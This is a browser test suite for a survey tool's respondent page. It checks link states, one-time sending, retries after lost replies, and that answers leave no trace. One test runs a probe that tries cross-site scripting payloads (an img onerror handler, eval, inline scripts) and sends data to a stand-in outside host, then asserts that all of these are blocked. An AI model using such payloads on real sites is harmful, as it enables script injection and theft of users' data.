"""The respondents' page when something goes wrong or someone looks: links, devices, replies, scripts, traces."""

import json
import re

import pytest
from browser import ARGUMENTS, find_barriers, find_chromium
from playwright.sync_api import expect
from starlette.applications import Starlette
from starlette.responses import HTMLResponse, Response
from starlette.routing import Mount, Route

import dpstrata as dps
from collecting import labels_of, responding, serving
from dpstrata.collect.contract import STATIC

CANARY = "4321.0987"
COUNT_DRAWS = """
window.draws = 0;
const secure = crypto.getRandomValues.bind(crypto);
crypto.getRandomValues = (place) => { window.draws += 1; return secure(place); };
"""
LOST = "No reply arrived. Please send again: the same row is sent, and it counts only once."


@pytest.fixture
def visit(browser, survey):
    survey.store.counted.clear()
    with responding(browser, survey) as made:
        yield made


# --- links ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("state", "heading"),
    [
        ("used", "This link has been used"),
        ("closed", "This survey is closed"),
        ("unknown", "This link does not work"),
    ],
)
def test_links_that_cannot_be_used(visit, survey, state, heading):
    link = survey.link(0, state=state) if state != "unknown" else f"{survey.address}#{'A' * 22}"
    visit.open(link).sees(heading).without_barriers()
    expect(visit.page.get_by_text("Nothing has been sent from this page.")).to_be_visible()
    assert [request.method for request in visit.requests].count("POST") == 1


@pytest.mark.parametrize(
    "fragment", ["", '#"\\' + "\\" * 60, "#" + "x" * 5000], ids=["none", "signs", "long"]
)
def test_links_that_are_not_complete_are_not_even_asked_about(visit, survey, fragment):
    visit.open(survey.address + fragment).sees("This link does not work")
    assert all(request.method == "GET" for request in visit.requests)


def test_a_mail_scanner_uses_nothing_up(browser, survey):
    """It loads the page, runs its scripts, and even follows the first button."""
    link = survey.link(0)
    with responding(browser, survey) as scanner:
        scanner.open(link).press("Start").sees("Question 1 of 3")
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(link)
    expect(page.get_by_text("It needs JavaScript and a current browser for that.")).to_be_visible()
    context.close()
    with responding(browser, survey) as visit:
        visit.open(link).answers_first_form().press("Send").sees("Thank you")


def test_another_link_in_the_same_window_starts_anew(visit, survey):
    visit.open(survey.link(0)).answers_first_form().sees("What will be sent")
    token = survey.store.invite(1)
    visit.page.evaluate(f"location.hash = '{token}'")
    visit.sees("What happens to your answers").press("Start").sees("Question 1 of 2")


# --- once, and only once -------------------------------------------------------------------------


def test_loading_the_page_again_shows_the_same_row_and_not_what_was_typed(visit, survey):
    visit.page.add_init_script(COUNT_DRAWS)
    visit.open(survey.link(0)).answers_first_form(CANARY).sees("What will be sent")
    row, drawn = visit.row(), visit.page.evaluate("window.draws")
    assert drawn >= 2  # the number on a level, and the row
    visit.page.locator("#language").select_option("Deutsch")
    visit.page.locator("#language").select_option("English")
    assert visit.page.evaluate("window.draws") == drawn
    for _ in range(2):
        visit.page.reload()
        visit.sees("What will be sent")
        assert visit.row() == row
        assert visit.page.evaluate("window.draws") == 0
        assert "4,321" not in visit.page.locator("body").inner_text()
    visit.without_barriers()
    expect(visit.page.get_by_text("What you typed is kept nowhere")).to_be_visible()
    visit.press("Send").sees("Thank you")
    assert len(survey.store.counted) == 1
    visit.page.reload()
    visit.sees("Thank you")
    assert len(survey.store.counted) == 1


def test_a_second_device_sends_nothing(browser, survey):
    survey.store.counted.clear()
    link = survey.link(0)
    with responding(browser, survey) as first, responding(browser, survey) as second:
        first.open(link).answers_first_form().sees("What will be sent")
        second.open(link).answers_first_form().press("Send").sees("Thank you")
        first.press("Send").sees("This link has been used")
        expect(first.page.get_by_text("Nothing has been sent from this page.")).to_be_visible()
        assert not any(request.url.endswith("/send") for request in first.requests)
    with responding(browser, survey) as third:
        third.open(link).sees("This link has been used")
    assert len(survey.store.counted) == 1


@pytest.mark.parametrize("reload", [False, True])
def test_a_lost_reply_is_sent_again_and_counts_once(browser, survey, reload):
    survey.store.counted.clear()
    with responding(browser, survey) as visit:
        visit.open(survey.link(0)).answers_first_form().sees("What will be sent")
        row = visit.row()

        def lose(route):
            route.fetch()  # the server has counted it
            route.abort()

        visit.page.route("**/send", lose)
        visit.press("Send")
        expect(visit.page.get_by_role("alert")).to_have_text(LOST)
        expect(visit.page.get_by_role("button", name="Send again")).to_be_focused()
        visit.without_barriers()
        assert visit.row() == row
        visit.page.unroute("**/send")
        if reload:
            visit.page.reload()
        else:
            visit.press("Send again")
        visit.sees("This link has been used")
        expect(visit.page.get_by_text("has been counted, once")).to_be_visible()
        assert visit.page.get_by_text("Nothing has been sent").count() == 0
        assert len(visit.faults) == 1  # the browser says that a request failed
        visit.faults.clear()
    assert len(survey.store.counted) == 1


def test_a_request_that_never_arrived_is_sent_again_as_the_same_row(browser, survey):
    survey.store.counted.clear()
    with responding(browser, survey) as visit:
        visit.open(survey.link(0)).answers_first_form()
        row = visit.row()
        visit.page.route("**/send", lambda route: route.abort())
        visit.press("Send")
        expect(visit.page.get_by_role("alert")).to_have_text(LOST)
        visit.page.unroute("**/send")
        visit.page.reload()
        visit.sees("What will be sent")
        expect(visit.page.get_by_role("alert")).to_have_text(LOST)
        assert visit.row() == row
        visit.press("Send again").sees("Thank you")
        visit.faults.clear()
    ((form, cell),) = survey.store.counted
    assert row == labels_of(survey.kit, form, cell)


def test_an_answer_that_is_too_late_does_not_leave_the_device(visit, survey):
    link = survey.link(0)
    visit.open(link).answers_first_form().sees("What will be sent")
    survey.store.close(link.partition("#")[2])
    visit.press("Send").sees("This survey is closed").without_barriers()
    assert not any(request.url.endswith("/send") for request in visit.requests)
    assert survey.store.counted == []


def test_a_server_that_cannot_be_reached_is_tried_again(browser, survey):
    with responding(browser, survey) as visit:
        visit.page.route("**/look", lambda route: route.abort())
        visit.open(survey.link(0)).sees("The survey cannot be reached").without_barriers()
        visit.page.unroute("**/look")
        visit.press("Try again").sees("What happens to your answers")
        visit.faults.clear()


# --- scripts -------------------------------------------------------------------------------------

PROBE = """
const tried = {};
const attempt = async (name, act) => {
  try { tried[name] = String(await act()); } catch (error) { tried[name] = `blocked: ${error.name}`; }
};
window.ran = [];
await attempt("inline script", () => {
  const script = document.createElement("script");
  script.textContent = "window.ran.push('inline')";
  document.head.append(script);
});
await attempt("markup", () => { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"ran.push('markup')\\">"); });
await attempt("inner markup", () => { document.createElement("div").innerHTML = "<b>x</b>"; });
await attempt("eval", () => eval("window.ran.push('eval')"));
await attempt("function", () => new Function("window.ran.push('function')")());
await attempt("address", () => { const script = document.createElement("script"); script.src = "https://elsewhere.example/x.js"; document.head.append(script); });
await attempt("own policy", () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }));
await attempt("request", () => fetch("https://elsewhere.example/", { method: "POST", body: "x" }));
await attempt("beacon", () => { if (!navigator.sendBeacon("https://elsewhere.example/", "x")) throw new Error("refused"); });
await attempt("listener", () => { document.body.setAttribute("onclick", "window.ran.push('listener')"); document.body.click(); });
await new Promise((done) => setTimeout(done, 300));
document.documentElement.dataset.tried = JSON.stringify(tried);
"""


def test_an_injected_script_is_blocked(browser, small_kit):
    """Tried by a script that the server itself serves: what a test browser runs is above the policy."""

    async def page(request):
        text = (STATIC / "index.html").read_text(encoding="utf-8")
        added = '<script>window.injected = true</script><script type="module" src="probe.js"></script></head>'
        return HTMLResponse(text.replace("</head>", added))

    async def probe(request):
        return Response(PROBE, media_type="text/javascript")

    more = [Route("/probed", page), Route("/probe.js", probe)]
    with serving(small_kit, more=more) as survey:
        context = browser.new_context()
        opened = context.new_page()
        outside = []
        opened.on("request", lambda request: outside.append(request.url))
        opened.goto(f"{survey.address}probed#{survey.store.invite(0)}")
        expect(opened.locator("html")).to_have_attribute("data-tried", re.compile("request"))
        tried = json.loads(opened.locator("html").get_attribute("data-tried"))
        ran = opened.evaluate("window.ran")
        injected = opened.evaluate("'injected' in window")
        context.close()
    assert ran == []
    assert not injected
    for name in ("inline script", "markup", "inner markup", "eval", "function", "address", "own policy", "request", "listener"):  # fmt: skip
        assert tried[name].startswith("blocked"), (name, tried)
    assert not any("elsewhere" in url for url in outside)


# --- traces --------------------------------------------------------------------------------------


def test_answers_leave_no_trace(browser, survey, tmp_path, capfd):
    """Not in requests, storage, history, page, log, or in any file of the browser."""
    survey.store.counted.clear()
    forms = (CANARY, "4,321.0987", "43210987")
    sent = []
    context = browser.browser_type.launch_persistent_context(
        tmp_path, executable_path=find_chromium(whole=True), args=ARGUMENTS, locale="en-GB"
    )
    page = context.pages[0]
    page.on("request", lambda request: sent.append(f"{request.url} {request.headers} {request.post_data}"))
    page.goto(survey.link(0))
    page.get_by_role("button", name="Start").click()
    page.get_by_role("radio", name="Yes").check()
    page.get_by_role("button", name="Next").click()
    page.get_by_role("radio", name="own").check()
    page.get_by_role("button", name="Next").click()
    page.get_by_role("textbox").fill(CANARY)
    page.get_by_role("button", name="Next").click()
    page.get_by_role("button", name="Continue").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("What will be sent")
    assert "4,321.0987" in page.locator("main").inner_text()
    state = page.evaluate("history.state")
    assert set(state) == {"cell", "form", "odds", "digest"}
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Thank you")
    kept = page.evaluate(
        """async () => JSON.stringify([history.state, history.length, {...localStorage}, {...sessionStorage},
             document.cookie, await indexedDB.databases(), await caches.keys(), document.documentElement.outerHTML,
             location.href, window.name, performance.getEntries().map((entry) => entry.name)])"""
    )
    assert context.cookies() == []
    context.storage_state()
    page.goto("about:blank")
    page.go_back()
    expect(page.get_by_role("heading", level=1)).to_have_text("Thank you")
    back = page.locator("html").inner_html()
    context.close()
    log = "".join(capfd.readouterr())
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert len(files) > 10
    for form in forms:
        assert form not in "".join(sent) + kept + back + log + json.dumps(survey.store.counted)
        for path in files:
            content = path.read_bytes()
            assert form.encode() not in content, path
            assert form.encode("utf-16-le") not in content, path
    assert not any(token in log for token in survey.store.invitations)
    assert json.loads(kept)[:2] == [{"done": True, "tried": True}, 2]
    assert json.loads(kept)[2:7] == [{}, {}, "", [], []]


def test_leaving_the_page_clears_what_was_typed(visit, survey):
    visit.open(survey.link(0)).press("Start").chooses("Yes").press("Next").chooses("own").press("Next")
    visit.writes(CANARY)
    visit.page.goto("about:blank")
    visit.page.go_back()
    visit.sees("What happens to your answers")
    assert CANARY not in visit.page.content()
    visit.requests[:] = [request for request in visit.requests if request.url != "about:blank"]


def test_the_preview_is_a_page_like_any_other(browser, small_kit):
    from dpstrata.collect.preview import make_preview

    with serving(small_kit, wrap=lambda app: make_preview(small_kit)) as survey:
        context = browser.new_context()
        page = context.new_page()
        page.goto(f"{survey.address}preview")
        assert find_barriers(page) == []
        page.get_by_role("link", name="Form 2").click()
        page.get_by_role("button", name="Start").click()
        expect(page.get_by_role("heading", level=1)).to_have_text("Question 1 of 2")
        page.goto(f"{survey.address}preview")
        page.get_by_role("link", name=re.compile("closed")).click()
        expect(page.get_by_role("heading", level=1)).to_have_text("This survey is closed")
        context.close()


def test_a_survey_can_be_served_under_any_path(browser, small_kit):
    def under(app):
        return Starlette(routes=[Mount("/surveys/health", app)])

    with serving(small_kit, wrap=under) as survey, responding(browser, survey) as visit:
        visit.open(f"{survey.address}surveys/health/#{survey.store.invite(0)}").answers_first_form()
        visit.press("Send").sees("Thank you")
        assert len(survey.store.counted) == 1


def test_one_question_alone_has_a_page(browser):
    plan = dps.design(dps.Strata([900, 2000]), epsilon=1, total=300, questions=["rent", "own", "other"])
    with (
        serving(dps.respondent_kit(plan, text="Where do you live?")) as survey,
        responding(browser, survey) as visit,
    ):
        visit.open(survey.link(0, odds=survey.kit.odds[1])).press("Start").chooses("rent").press("Next")
        visit.press("Continue").press("Send").sees("Thank you")
        assert survey.store.counted[0][1] in (0, 1, 2)
